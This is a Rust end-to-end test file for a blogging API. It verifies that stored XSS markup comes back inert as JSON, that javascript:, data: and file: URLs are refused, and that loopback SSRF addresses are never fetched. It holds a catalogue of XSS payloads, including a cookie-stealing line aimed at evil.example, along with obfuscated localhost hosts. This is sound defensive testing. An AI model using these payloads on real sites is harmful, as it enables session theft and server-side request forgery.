//! Texts and addresses that mean harm: kept as text, or refused by their field, and never visited (T32, T33, CV-18, CV-25).

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};

use e2e::World;
use futures_util::FutureExt;
use serde_json::{Value, json};
use tokio::net::TcpListener;

const POSTS: &str = "/api/v1/posts";

/// Markup that runs a script where it is taken for markup; `%` is where the script stands.
const MARKUP: [&str; 25] = [
    "<script>%</script>",
    "<ScRiPt>%</sCrIpT>",
    "<script/x>%</script>",
    "<img src=x onerror=%>",
    "<img src=`x`onerror=%>",
    "<svg onload=%>",
    "<svg/onload=%>",
    "<svg><script>%</script></svg>",
    "<svg><animate onbegin=% attributeName=x>",
    "<body onload=%>",
    "<iframe src=\"javascript:%\">",
    "<iframe srcdoc=\"<script>%</script>\">",
    "<a href=\"javascript:%\">x</a>",
    "<a href=\"java&#9;script:%\">x</a>",
    "<a href=\"data:text/html,<script>%</script>\">x</a>",
    "<object data=\"javascript:%\">",
    "<embed src=\"javascript:%\">",
    "<details open ontoggle=%>",
    "<video><source onerror=%>",
    "<math><mtext><style><img src=x onerror=%></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=%>\">",
    "\"><script>%</script>",
    "'-%-'",
    "</textarea><script>%</script>",
    "{{constructor.constructor('%')()}}",
];

const SCRIPTS: [&str; 6] = [
    "alert(1)",
    "alert`1`",
    "&#97;lert(1)",
    "eval(atob('YWxlcnQoMSk='))",
    "document.location='https://evil.example/'+document.cookie",
    "\u{2028}alert(1)",
];

#[tokio::test(flavor = "multi_thread")]
async fn t32_cv_18_markup_in_plain_text_comes_back_as_it_was_and_is_nothing_but_json() {
    let world = World::start().await;
    let member = world.newcomer().await;
    let client = &member.client;
    let path = format!("/api/v1/profiles/{}", member.profile_id);
    let mut tried = 0;
    for markup in MARKUP {
        for script in SCRIPTS {
            tried += 1;
            let text = markup.replace('%', script);
            let post = json!({"type": "blog", "title": text, "content": text, "excerpt": text,
                              "metadata": {"note": text}});
            let made = client.post(POSTS, post).await.data(201);
            let post = format!("{POSTS}/{}", made["id"].as_str().unwrap());
            let comment = json!({"content": text});
            let comments = format!("{post}/comments");
            client.post(&comments, comment).await.data(201);
            let profile = json!({"bio": text, "headline": text});
            client.put(&path, profile).await.data(200);

            let mut read = Vec::new();
            for path in [&post, &comments, &path] {
                let reply = world.client().get(path).await;
                assert_eq!(reply.header("content-type"), Some("application/json"));
                assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
                read.push(reply.data(200));
            }
            let [post, comments, profile] = &read[..] else {
                panic!("three replies")
            };
            for (said, field) in [
                (&post["title"], "title"),
                (&post["content"], "content"),
                (&post["excerpt"], "excerpt"),
                (&post["metadata"]["note"], "metadata"),
                (&comments[0]["content"], "comment"),
                (&profile["bio"], "bio"),
                (&profile["headline"], "headline"),
            ] {
                assert_eq!(*said, text, "{field}");
            }
        }
    }
    assert_eq!(tried, 150);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn t32_cv_25_addresses_that_are_scripts_or_files_are_refused_by_their_field() {
    let world = World::start().await;
    let member = world.newcomer().await;
    let profile = format!("/api/v1/profiles/{}", member.profile_id);
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "javascript://host/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "file:///etc/passwd",
        "ftp://host/x",
        "gopher://host/x",
        "blob:https://host/x",
        "https:///no-host",
        "https://user:password@host/x",
        "https://user@host/x",
        "http://",
    ] {
        let post = json!({"type": "general", "content": "x", "imageUrl": address});
        let reply = member.client.post(POSTS, post).await;
        assert_eq!(reply.refused(400), "VALIDATION_ERROR", "{address}");
        assert_eq!(reply.fields(), ["imageUrl"], "{address}");
        let metadata = json!({"type": "general", "content": "x", "metadata": {"ctaUrl": address}});
        let reply = member.client.post(POSTS, metadata).await;
        assert_eq!(reply.fields(), ["metadata.ctaUrl"], "{address}");
        for field in ["avatarUrl", "coverImageUrl", "website"] {
            let reply = member.client.put(&profile, json!({field: address})).await;
            // A website without a scheme is given one (PR-9), and then has to be an address.
            assert_eq!(reply.refused(400), "VALIDATION_ERROR", "{field} {address}");
            assert_eq!(reply.fields(), [field], "{address}");
        }
    }
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn t33_cv_25_no_address_somebody_gives_is_ever_visited() {
    let canary = Canary::sit().await;
    let world = World::start().await;
    let member = world.newcomer().await;
    let profile = format!("/api/v1/profiles/{}", member.profile_id);
    let [four, six] = canary.ports();
    let mut targets: Vec<String> = [
        "127.0.0.1",
        "localhost",
        "localhost.",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0.0.0.0",
        "127.0.0.1.nip.io",
    ]
    .iter()
    .map(|host| format!("http://{host}:{four}/canary.png"))
    .collect();
    targets.extend(
        ["[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]"].map(|host| {
            let port = if host.contains("127") { four } else { six };
            format!("http://{host}:{port}/canary.png")
        }),
    );
    let mut stored = 0;
    for address in &targets {
        let post = |change: Value| {
            let mut post = json!({"type": "general", "content": format!("see {address}")});
            post.as_object_mut()
                .unwrap()
                .extend(change.as_object().unwrap().clone());
            post
        };
        for body in [
            post(json!({"imageUrl": address})),
            post(json!({"metadata": {"ctaUrl": address}})),
        ] {
            let reply = member.client.post(POSTS, body).await;
            stored += kept(&reply, address);
        }
        for field in ["avatarUrl", "coverImageUrl", "website"] {
            let reply = member.client.put(&profile, json!({field: address})).await;
            stored += kept(&reply, address);
        }
    }
    assert_eq!(targets.len() * 5, 60);
    assert!(stored >= 30, "{stored} addresses were stored");
    // Whoever reads them makes nobody visit them either.
    for path in ["/api/v1/feed?limit=100", &profile] {
        world.client().get(path).await.data(200);
    }
    world.stop().await;
    assert!(canary.is_alone(), "somebody came by");
}

/// Checks that an address was stored or refused, and returns how many were stored.
fn kept(reply: &e2e::Reply, address: &str) -> usize {
    match reply.status.as_u16() {
        200 | 201 => {
            assert!(reply.json()["data"].to_string().contains(address));
            1
        }
        _ => {
            assert_eq!(reply.refused(400), "VALIDATION_ERROR", "{address}");
            0
        }
    }
}

/// Listens where nobody has any business.
struct Canary([TcpListener; 2]);

impl Canary {
    async fn sit() -> Self {
        let four = TcpListener::bind(SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0)));
        let six = TcpListener::bind(SocketAddr::from((Ipv6Addr::LOCALHOST, 0)));
        let canary = Self([four.await.unwrap(), six.await.unwrap()]);
        // It would notice.
        let visit = tokio::net::TcpStream::connect(("127.0.0.1", canary.ports()[0]));
        drop(visit.await.unwrap());
        assert!(!canary.is_alone());
        canary
    }

    fn ports(&self) -> [u16; 2] {
        let port = |it: &TcpListener| it.local_addr().unwrap().port();
        [port(&self.0[0]), port(&self.0[1])]
    }

    fn is_alone(&self) -> bool {
        self.0.iter().all(|it| it.accept().now_or_never().is_none())
    }
}
